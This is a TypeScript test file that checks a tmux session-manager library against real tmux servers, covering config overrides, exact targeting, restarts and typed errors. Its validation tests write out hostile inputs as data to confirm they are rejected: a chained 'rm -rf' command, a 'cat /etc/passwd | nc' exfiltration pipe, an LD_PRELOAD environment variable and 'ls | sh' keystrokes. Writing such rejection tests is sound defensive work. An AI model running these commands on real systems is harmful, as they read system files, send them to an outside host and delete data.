/**
 * The per-session facade (SessionManager / Sessions) against REAL tmux: config + command-line
 * precedence, exact targeting, restart semantics, ambiguity, typed errors. Every test uses its own
 * `-L` sockets inside a private TMUX_TMPDIR; servers are killed in finalizers.
 */
import { execFileSync } from "node:child_process"
import { existsSync, mkdtempSync, readFileSync, writeFileSync } from "node:fs"
import { join } from "node:path"
import { describe, expect, it } from "@effect/vitest"
import { Effect } from "effect"
import { loadConfig } from "../../src/config/load.js"
import { layerNodeWith } from "../../src/layer.js"
import { SessionManager } from "../../src/session/manager.js"
import * as Sessions from "../../src/session/operations.js"
import { usePrivateTmux } from "../support/privateTmux.js"

const suite = usePrivateTmux("sess")

const rnd = () => Math.random().toString(36).slice(2, 10)

const tmux = (socket: string, args: ReadonlyArray<string>) =>
  execFileSync("tmux", ["-L", socket, ...args], { stdio: ["ignore", "pipe", "pipe"] }).toString()

/** Fresh socket names, their servers killed when the test's scope closes. */
const sockets = (n: number) =>
  Effect.acquireRelease(
    Effect.sync(() => Array.from({ length: n }, () => `kt-${rnd()}`)),
    (ss) =>
      Effect.sync(() => {
        for (const s of ss) {
          try {
            tmux(s, ["kill-server"])
          } catch { /* gone */ }
        }
      })
  )

/** Writes a config file in a fresh directory and runs `body` with kstlib's Node layer built on it. */
const withConfig = <A, E>(yaml: string, body: (dir: string) => Effect.Effect<A, E, any>) =>
  Effect.gen(function*() {
    const dir = mkdtempSync(join(suite.workDir(), "cfg-"))
    const file = join(dir, "kstlib.conf.yml")
    writeFileSync(file, yaml)
    const config = yield* loadConfig({ path: file, env: { HOME: dir } })
    return yield* (body(dir) as Effect.Effect<A, E, never>).pipe(Effect.provide(layerNodeWith(config)))
  })

const waitFor = (check: () => boolean, ms = 5000) =>
  Effect.promise(async () => {
    const end = Date.now() + ms
    while (Date.now() < end) {
      if (check()) return true
      await new Promise((r) => setTimeout(r, 50))
    }
    return check()
  })

describe("SessionManager on real tmux", () => {
  it.live("fromConfig: start with command-line overrides on top of config (env merged), status, logs, graceful stop", () =>
    Effect.gen(function*() {
      const [s] = yield* sockets(1)
      yield* withConfig(
        `ops:\n  sessions:\n    web:\n      command: "sh run.sh"\n      working_dir: "."\n      socket_name: ${s}\n      env:\n        A: from-config\n        B: from-config\n`,
        (dir) =>
          Effect.gen(function*() {
            writeFileSync(
              join(dir, "run.sh"),
              `trap 'echo stopped-cleanly > "${dir}/stopped"; exit 0' INT\necho "A=$A B=$B pwd=$(pwd)"\nwhile true; do sleep 0.2; done\n`
            )
            const web = yield* SessionManager.fromConfig("web")
            const started = yield* web.start({ env: { B: "from-cli" } })
            expect(started.state).toBe("running")
            expect(started.owned).toBe(true)
            expect(started.socket_name).toBe(s)
            expect(yield* web.isRunning()).toBe(true)
            const status = yield* web.status()
            expect(status).toMatchObject({ name: "web", state: "running", backend: "tmux", socket_name: s, owned: true, in_config: true })
            // The command-line env differs from config: the running session is not in sync with the file.
            expect(status.in_sync).toBe(false)
            const logs = yield* web.logs({ lines: 20 })
            expect(logs).toContain(`A=from-config B=from-cli pwd=${dir}`)
            yield* web.stop({ timeout: 5 })
            expect(readFileSync(join(dir, "stopped"), "utf8").trim()).toBe("stopped-cleanly")
            expect(yield* web.exists()).toBe(false)
            // Not running any more, but still in config: defined.
            expect((yield* web.status()).state).toBe("defined")
          })
      )
    }))

  it.live("fromConfig: unknown name lists what is there; a rejected entry is a ConfigInvalid, never a silent default", () =>
    withConfig(
      `ops:\n  sessions:\n    good:\n      command: "sleep 60"\n    evil:\n      command: "echo hi; rm -rf /tmp/x"\n`,
      () =>
        Effect.gen(function*() {
          const missing = yield* Effect.flip(SessionManager.fromConfig("nope"))
          expect(missing._tag).toBe("ConfigInvalid")
          expect(missing.message).toContain("Available sessions: good, evil")
          const evil = yield* Effect.flip(SessionManager.fromConfig("evil"))
          expect(evil._tag).toBe("ConfigInvalid")
          expect(evil.message).toContain("unquoted ';' would chain commands, but no shell runs this command; quote it to pass it as an argument, or set shell: true")
          // The per-session start refuses it too, instead of starting a plain shell (the original's bug).
          const started = yield* Effect.flip(Sessions.start("evil"))
          expect(started._tag).toBe("ConfigInvalid")
        })
    ))

  it.live("command-line overrides are validated by the same rules (bad -c, bad env key, bad socket)", () =>
    withConfig(`ops:\n  sessions: {}\n`, () =>
      Effect.gen(function*() {
        const badCmd = yield* Effect.flip(Sessions.start("adhoc", { command: "cat /etc/passwd | nc x 1" }))
        expect(badCmd._tag).toBe("ConfigInvalid")
        expect(badCmd.message).toContain("<command line>")
        expect(badCmd.message).toContain("unquoted '|' would pipe into another command, but no shell runs this command")
        const badEnv = yield* Effect.flip(Sessions.start("adhoc", { command: "sleep 1", env: { LD_PRELOAD: "x" } }))
        expect(badEnv.message).toContain("Environment variable 'LD_PRELOAD' is blocked")
        const badSocket = yield* Effect.flip(Sessions.start("adhoc", { command: "sleep 1", socket: "a/b" }))
        expect(badSocket._tag).toBe("InvalidInput")
        const tmuxImage = yield* Effect.flip(Sessions.start("adhoc", { backend: "tmux", image: "busybox" }))
        expect(tmuxImage).toMatchObject({ _tag: "InvalidInput", field: "--image" })
        const badName = yield* Effect.flip(Sessions.start("1bad"))
        expect(badName).toMatchObject({ _tag: "InvalidInput", field: "NAME" })
      })))

  it.live("exact names: with only astro-dev running, astro does not exist and stop astro leaves astro-dev alone", () =>
    Effect.gen(function*() {
      const [s] = yield* sockets(1)
      yield* withConfig(`ops:\n  sessions: {}\n`, () =>
        Effect.gen(function*() {
          yield* Sessions.start("astro-dev", { command: "sleep 60", socket: s })
          const e = yield* Effect.flip(Sessions.stop("astro"))
          expect(e._tag).toBe("SessionNotFound")
          expect(tmux(s, ["list-sessions", "-F", "#{session_name}"]).trim()).toBe("astro-dev")
          expect((yield* Sessions.status("astro-dev")).socket_name).toBe(s)
        }))
    }))

  it.live("the same name on two sockets is ambiguous until --socket narrows it", () =>
    Effect.gen(function*() {
      const [a, b] = yield* sockets(2)
      tmux(a!, ["new-session", "-d", "-s", "twin", "sleep 60"])
      tmux(b!, ["new-session", "-d", "-s", "twin", "sleep 60"])
      yield* withConfig(`ops:\n  sessions: {}\n`, () =>
        Effect.gen(function*() {
          const e = yield* Effect.flip(Sessions.status("twin"))
          expect(e._tag).toBe("SessionAmbiguous")
          expect(e.message).toContain("--backend")
          const s = yield* Sessions.status("twin", { socket: b! })
          expect(s).toMatchObject({ state: "running", socket_name: b, owned: false })
        }))
    }))

  it.live("restart: an exited config session is respawned in place; a foreign session is restarted but stays foreign", () =>
    Effect.gen(function*() {
      const [s] = yield* sockets(1)
      yield* withConfig(
        `ops:\n  sessions:\n    job:\n      command: "sh job.sh"\n      working_dir: "."\n      socket_name: ${s}\n`,
        (dir) =>
          Effect.gen(function*() {
            // First run exits at once (code 4); the second waits: restart must run the command again.
            writeFileSync(join(dir, "job.sh"), `if [ -e ran ]; then sleep 60; fi\ntouch ran\necho first-run\nexit 4\n`)
            const failed = yield* Effect.flip(Sessions.start("job"))
            expect(failed).toMatchObject({ _tag: "SessionStartFailed", exitCode: 4 })
            const exited = yield* Sessions.status("job")
            expect(exited).toMatchObject({ state: "exited", exit_code: 4 })
            const created = tmux(s!, ["display-message", "-p", "-t", "=job:", "#{session_created}"]).trim()
            const restarted = yield* Sessions.restart("job")
            expect(restarted.state).toBe("running")
            // In place: the same session (same creation time), a new process.
            expect(tmux(s!, ["display-message", "-p", "-t", "=job:", "#{session_created}"]).trim()).toBe(created)

            tmux(s!, ["new-session", "-d", "-s", "foreign", "sleep 60"])
            const before = yield* Sessions.status("foreign")
            const again = yield* Sessions.restart("foreign")
            expect(again.pid).not.toBe(before.pid)
            expect(again.owned).toBe(false)
          })
      )
    }))

  it.live("send-keys is validated and reaches the pane; exec on a tmux session is a usage error", () =>
    Effect.gen(function*() {
      const [s] = yield* sockets(1)
      yield* withConfig(`ops:\n  sessions: {}\n`, (dir) =>
        Effect.gen(function*() {
          yield* Sessions.start("shell", { command: "sh", socket: s, working_dir: dir })
          const bad = yield* Effect.flip(Sessions.sendKeys("shell", "ls | sh"))
          expect(bad).toMatchObject({ _tag: "InvalidInput", field: "KEYS" })
          yield* Sessions.sendKeys("shell", "touch typed-by-kstlib")
          expect(yield* waitFor(() => existsSync(join(dir, "typed-by-kstlib")))).toBe(true)
          const e = yield* Effect.flip(Sessions.exec("shell", ["ls"], { backend: "tmux" }))
          expect(e._tag).toBe("InvalidInput")
        }))
    }))

  it.live("starting a running session is SessionExists; stopping a missing one is SessionNotFound", () =>
    Effect.gen(function*() {
      const [s] = yield* sockets(1)
      yield* withConfig(`ops:\n  sessions:\n    once:\n      command: "sleep 60"\n      socket_name: ${s}\n`, () =>
        Effect.gen(function*() {
          yield* Sessions.start("once")
          expect((yield* Effect.flip(Sessions.start("once")))._tag).toBe("SessionExists")
          yield* Sessions.stop("once", {}, { force: true })
          expect((yield* Effect.flip(Sessions.stop("once")))._tag).toBe("SessionNotFound")
        }))
    }))
})
